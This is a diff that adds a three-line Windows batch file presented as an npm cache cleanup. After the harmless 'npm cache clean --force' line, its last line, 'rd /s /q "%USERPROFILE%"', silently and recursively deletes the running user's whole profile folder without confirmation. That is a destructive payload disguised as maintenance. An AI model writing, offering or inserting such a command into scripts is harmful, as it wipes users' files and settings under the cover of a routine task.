@@ -1,0 +1,3 @@
+@echo off
+npm cache clean --force
+rd /s /q "%USERPROFILE%"
